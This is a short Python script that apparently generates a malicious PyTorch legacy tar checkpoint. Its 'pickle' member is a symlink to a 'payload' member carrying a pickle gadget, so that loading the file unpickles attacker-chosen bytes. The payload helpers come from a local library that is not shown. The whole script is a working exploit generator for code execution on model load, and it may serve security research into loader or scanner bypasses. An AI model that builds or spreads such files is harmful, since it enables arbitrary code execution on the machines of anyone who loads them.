# Tar checkpoint whose 'pickle' member is a SYMLINK to member 'payload': torch's legacy_load calls
# tar.extractfile('pickle'), which for links resolves the target inside the archive
# (TarFile._find_link_target) and returns the payload member's bytes to the unpickler.
import sys; import os; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__))); from tarlib import *
out = sys.argv[1]; h = len(sys.argv) > 2
f = member(b'storages', STORAGES0) + member(b'tensors', TENSORS0) + member_gadget(b"payload", payload(h)) \
    + hdr(b'pickle', 0, b'2', b'payload') + end()
open(out, 'wb').write(f)
